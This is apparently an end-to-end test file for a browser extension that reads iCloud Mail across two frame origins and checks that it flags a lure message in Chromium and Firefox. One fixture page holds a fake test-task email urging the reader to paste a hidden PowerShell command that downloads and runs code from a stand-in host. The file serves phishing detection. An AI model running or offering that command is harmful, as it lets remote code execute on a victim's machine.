import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { DemoServer } from '../../demo/server.mjs'
import { Chromium, readCards, saveScreenshot, waitForListed } from './harness/chromium.ts'
import { Firefox, readList, waitForText } from './harness/firefox.ts'

const READ = 'Messages on this page'
const TOP = 'www.icloud.com'
const SANDBOX = 'www-mail.icloud-sandbox.com'
const LIST = '/applications/mail2/current/en-us/index.html'
const BODY = '/applications/mail2-message/current/en-us/index.html'

const LIST_PAGE = `<!doctype html><meta charset="utf-8"><body>
<div class="thread-list"><div class="thread-list-item" role="treeitem" aria-selected="true">
<span class="thread-participants">Irena Valdis</span><span class="thread-subject">Your application</span></div></div>
<div class="pane thread-detail-pane"><div class="header"><span class="contact-token">Irena Valdis</span>
<span class="contact-token">Sam Rivera</span></div>
<iframe src="https://${SANDBOX}${BODY}" style="width:600px;height:400px"></iframe></div></body>`

const BODY_PAGE = `<!doctype html><meta charset="utf-8"><body class="ic-1w42zm0">
<div class="mail-message-defaults ic-1203xvo"><p>Dear Sam, to start your test task press Win+R, paste the
command below and press Enter.</p><pre>powershell -w hidden -c "iwr https://tasks.example/a | iex"</pre>
<span class="contact-token">Forged Name</span></div></body>`

const TOP_PAGE = `<!doctype html><iframe class="child-application" src="${LIST}"
 style="width:900px;height:600px"></iframe>`

function servePages({ pages }: DemoServer): void {
  pages.set(`${TOP}/mail/`, TOP_PAGE)
  pages.set(`${TOP}${LIST}`, LIST_PAGE)
  pages.set(`${SANDBOX}${BODY}`, BODY_PAGE)
}

describe('iCloud, whose mails stand in frames of two origins', () => {
  let run: Chromium
  beforeAll(async () => {
    run = await Chromium.start({
      hosts: [TOP, SANDBOX],
      changeManifest: (manifest) => ({
        ...manifest,
        host_permissions: [
          ...manifest.host_permissions,
          `https://${TOP}/*`,
          `https://${SANDBOX}/*`,
        ],
      }),
    })
    servePages(run.server)
  })
  afterAll(() => run.close())

  it('joins the head of one frame with the text of another, and warns at the text', async () => {
    const page = await run.context.newPage()
    await page.goto(`https://${TOP}/mail/`)
    const popup = await run.openPopup(page)
    await waitForListed(popup, 'Irena Valdis')
    const cards = await readCards(popup, 'Messages on this page')
    expect(cards).toHaveLength(1)
    expect(cards[0]?.sender).toBe('Irena Valdis')
    expect(cards[0]?.text).toContain('Your application')
    expect(cards[0]?.level).not.toBe('none')
    await expect.poll(() => run.readBadge(page)).toBe('1')
    await saveScreenshot(page, 'icloud')
  })
})

describe('iCloud in Firefox', () => {
  it('is protected with one click on both its hosts, and its frames are joined', async () => {
    const run = await Firefox.start({ hosts: [TOP, SANDBOX] })
    servePages(run.server)
    const page = await run.open(`https://${TOP}/mail/`)
    await page.bringToFront()
    await run.clickToolbarButton()
    const popup = await run.openPopup(page)
    await popup.locator('::-p-text(Protect this site)').click()
    await waitForText(popup, READ, 'Irena Valdis')
    expect(await readList(popup, READ)).toContain('Your application')
    expect(await readList(popup, READ)).not.toMatch(/Lure signs: none/)
    await run.close()
  })
})
